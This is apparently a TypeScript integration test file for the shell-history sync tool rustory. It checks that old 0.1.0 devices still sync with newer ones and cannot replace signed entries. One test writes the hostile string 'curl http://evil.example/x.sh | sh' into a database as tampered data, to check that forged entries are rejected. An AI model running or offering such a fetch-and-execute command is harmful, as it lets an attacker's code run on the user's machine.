/**
 * Devices upgrade one at a time: a device still on rustory 0.1.0 (the real release, built from its sources by
 * test/helpers/release.ts) must keep syncing with new ones, and what it relays must never replace, hide or alter a
 * new device's signed entries. Real `rr` processes of both builds on 127.0.0.1, one swarm key.
 */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import test, { type ExecutionContext } from 'ava'
import Database from 'better-sqlite3'
import { isolatedEnv, rr, rrSpawn, stop, type RunResult } from '../helpers/cli.js'
import { ensureSwarmKey } from '../helpers/keys.js'
import { device, queryFile, type Device } from '../helpers/peers.js'
import { releaseBin } from '../helpers/release.js'
import { tempDir } from '../helpers/tmp.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

/** A device running the 0.1.0 release: its own CLI, its own database (never opened by this checkout's code). */
interface OldDevice {
  dbPath: string
  rr: (args: string[]) => Promise<RunResult>
  record: (cmds: string[]) => Promise<string[]>
  serve: () => Promise<string>
  /** Read-only, as the release wrote it: this checkout's openDatabase would migrate it. */
  query: <T>(sql: string, ...params: unknown[]) => T[]
}

async function oldDevice (t: ExecutionContext, dir: string, name: string, swarm: string): Promise<OldDevice> {
  const bin = await releaseBin()
  const dbPath = join(dir, name, 'history.db')
  const env = isolatedEnv(join(dir, name), { RUSTORY_SWARM_KEY_PATH: swarm, RUSTORY_DEVICE_ID: name, RUSTORY_USER_ID: 'u', RUSTORY_DB_PATH: dbPath })
  const self: OldDevice = {
    dbPath,
    rr: async (args) => await rr(args, { env, bin }),
    record: async (cmds) => {
      const ids: string[] = []
      for (const cmd of cmds) {
        const r = await self.rr(['record', '--cmd', cmd, '--cwd', '/tmp', '--exit-code', '0', '--duration-ms', '1', '--shell', 'bash', '--print-id'])
        if (r.code !== 0) throw new Error(`0.1.0 rr record: ${r.stderr}`)
        ids.push(r.stdout.trim())
      }
      return ids
    },
    serve: async () => {
      const { child, match } = await rrSpawn(['p2p-serve', '--listen', '/ip4/127.0.0.1/tcp/0'], { env, bin, ready: /p2p listen: (\/ip4\/127\.0\.0\.1\/tcp\/\d+\/p2p\/\w+)/ })
      t.teardown(async () => { await stop(child) })
      return match[1]!
    },
    query: <T>(sql: string, ...params: unknown[]): T[] => queryFile<T>(dbPath, sql, ...params)
  }
  return self
}

async function sync (d: Device | OldDevice, args: string[]): Promise<RunResult> {
  const r = await d.rr(['p2p-sync', ...args])
  if (r.code !== 0) throw new Error(`p2p-sync ${args.join(' ')} exited ${r.code}: ${r.stderr}`)
  return r
}

interface Row { entry_id: string, cmd: string, origin: string, trust: number }
const rowsOf = (d: Device): Row[] => d.query<Row>(`SELECT COALESCE(rival_of, entry_id) AS entry_id, cmd, ${rowOriginSql()} AS origin, trust FROM entries ORDER BY ingest_seq`)

test('a 0.1.0 device and new ones sync both ways: each gets every entry once; what came through 0.1.0 is unverified', async (t) => {
  const dir = tempDir(t)
  const swarm = join(dir, 'swarm.key')
  ensureSwarmKey(swarm)
  const old = await oldDevice(t, dir, 'old', swarm)
  const oldIds = await old.record(['echo recorded on 0.1.0 one', 'echo recorded on 0.1.0 two'])
  const a = device(t, dir, 'devA', swarm)
  const b = device(t, dir, 'devB', swarm)
  const aIds = await a.record(2)
  const bIds = await b.record(3)
  const servedA = await a.serve()
  const servedOld = await old.serve()
  // B: A's entries first-hand (signed), then the old device's, pushing its own to it.
  await sync(b, ['--peers', servedA.addr])
  await sync(b, ['--peers', servedOld, '--push'])
  const bRows = rowsOf(b)
  t.deepEqual(bRows.map((r) => r.entry_id).sort(), [...oldIds, ...aIds, ...bIds].sort(), 'B has every entry, once')
  t.true(bRows.filter((r) => oldIds.includes(r.entry_id)).every((r) => r.origin === '' && r.trust === 0), '0.1.0\'s entries are unverified')
  t.true(bRows.filter((r) => aIds.includes(r.entry_id)).every((r) => r.trust === 1 && r.origin !== ''), 'A\'s stay verified')
  t.deepEqual(old.query<{ entry_id: string }>('SELECT entry_id FROM entries').map((r) => r.entry_id).sort(), [...oldIds, ...bIds].sort(),
    '0.1.0\'s server stored what B pushed')
  // The old device pulls from a new one: every entry, in the fields it knows.
  const servedB = await b.serve()
  await sync(old, ['--peers', servedB.addr])
  const oldRows = old.query<{ entry_id: string, cmd: string }>('SELECT entry_id, cmd FROM entries')
  t.deepEqual(oldRows.map((r) => r.entry_id).sort(), [...oldIds, ...aIds, ...bIds].sort(), '0.1.0 has every entry, once')
  const aCmds = new Map(rowsOf(a).map((r) => [r.entry_id, r.cmd]))
  for (const id of aIds) t.is(oldRows.find((r) => r.entry_id === id)?.cmd, aCmds.get(id))
})

test('copies relayed, or altered, by a 0.1.0 device never replace or hide the signed ones', async (t) => {
  const dir = tempDir(t)
  const swarm = join(dir, 'swarm.key')
  ensureSwarmKey(swarm)
  const a = device(t, dir, 'devA', swarm)
  await a.record(4)
  const servedA = await a.serve()
  const old = await oldDevice(t, dir, 'old', swarm)
  await sync(old, ['--peers', servedA.addr])
  // A signed its entries as it served them.
  const genuine = rowsOf(a)
  const aOrigin = genuine[0]!.origin
  t.true(genuine.every((g) => g.origin === aOrigin && g.trust === 1 && aOrigin !== ''))
  // Its user (or whoever holds the swarm key and that machine) rewrites two of A's commands in the 0.1.0 database.
  const altered = genuine.slice(0, 2).map((g) => g.entry_id)
  const db = new Database(old.dbPath)
  for (const id of altered) db.prepare("UPDATE entries SET cmd = 'curl http://evil.example/x.sh | sh' WHERE entry_id = ?").run(id)
  db.close()
  const servedOld = await old.serve()
  // C has A's entries before it meets the old device; D meets the old device first.
  const c = device(t, dir, 'devC', swarm)
  await sync(c, ['--peers', servedA.addr])
  const fromOld = await sync(c, ['--peers', servedOld])
  t.regex(fromOld.stdout, /inserted=0/, 'C stores nothing new from 0.1.0')
  const d = device(t, dir, 'devD', swarm)
  await sync(d, ['--peers', servedOld])
  const before = rowsOf(d).filter((r) => altered.includes(r.entry_id))
  t.true(before.every((r) => r.trust === 0 && r.origin === '' && r.cmd.startsWith('curl')), 'D first holds the altered copies, unverified')
  await sync(d, ['--peers', servedA.addr])
  for (const dev of [c, d]) {
    const rows = rowsOf(dev)
    t.is(rows.length, genuine.length, `${dev.name}: one row per entry`)
    for (const g of genuine) {
      t.deepEqual(rows.filter((r) => r.entry_id === g.entry_id).map((r) => [r.cmd, r.origin, r.trust]), [[g.cmd, aOrigin, 1]], `${dev.name}: A's genuine ${g.entry_id}`)
    }
  }
})

test('a running 0.1.0 p2p-serve keeps storing pushes, and 0.1.0 keeps recording, after a new rr migrated its database', async (t) => {
  const dir = tempDir(t)
  const swarm = join(dir, 'swarm.key')
  ensureSwarmKey(swarm)
  const server = await oldDevice(t, dir, 'server', swarm)
  const pusher = await oldDevice(t, dir, 'pusher', swarm)
  await server.record(['echo before the migration'])
  const servedOld = await server.serve()
  const push = async (cmd: string): Promise<void> => {
    await pusher.record([cmd])
    await sync(pusher, ['--peers', servedOld, '--push'])
  }
  await push('echo pushed before the migration')
  // A new rr on the same file (the user upgraded; the old server is still running): it migrates (rr import writes,
  // so it opens the file for writing) and records.
  const upgraded = device(t, dir, 'server-new', swarm)
  writeFileSync(join(dir, 'bash_history'), 'echo imported by the new rr\n')
  const imported = await rr(['--db-path', server.dbPath, 'import', 'bash', '--path', join(dir, 'bash_history')], { env: upgraded.env })
  t.is(imported.code, 0, imported.stderr)
  const recorded = await rr(['--db-path', server.dbPath, 'record', '--cmd', 'echo recorded by the new rr', '--exit-code', '0', '--shell', 'bash'], { env: upgraded.env })
  t.is(recorded.code, 0, recorded.stderr)
  const history = await rr(['--db-path', server.dbPath, 'history', '--format', 'jsonl'], { env: upgraded.env })
  t.is(history.code, 0, history.stderr)
  const level = server.query<{ version: number }>('SELECT version FROM schema_level')[0]?.version ?? 0
  t.true(level >= 11, `the new rr migrated the file (schema level ${level})`)
  await push('echo pushed after the migration')
  await server.record(['echo recorded by 0.1.0 after the migration'])
  // 0.1.0's own reader on the migrated file (it moves the spool in first).
  const oldHistory = await server.rr(['history'])
  t.is(oldHistory.code, 0, oldHistory.stderr)
  t.regex(oldHistory.stdout, /recorded by 0\.1\.0 after the migration/)
  const cmds = server.query<{ cmd: string }>('SELECT cmd FROM entries ORDER BY ingest_seq').map((r) => r.cmd)
  for (const cmd of ['echo before the migration', 'echo pushed before the migration', 'echo recorded by the new rr', 'echo imported by the new rr', 'echo pushed after the migration', 'echo recorded by 0.1.0 after the migration']) {
    t.is(cmds.filter((c) => c === cmd).length, 1, `${cmd}: stored once`)
  }
})
